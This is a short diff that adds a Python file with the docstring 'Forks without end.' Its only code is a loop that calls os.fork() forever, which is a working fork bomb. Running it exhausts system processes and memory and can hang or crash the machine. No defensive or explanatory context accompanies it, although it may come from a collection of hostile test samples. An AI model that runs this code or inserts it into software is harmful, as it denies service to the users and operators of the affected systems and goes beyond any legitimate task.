@@ -1,0 +1,7 @@
+# in: extra
+"""Forks without end."""
+
+import os
+
+while True:
+    os.fork()
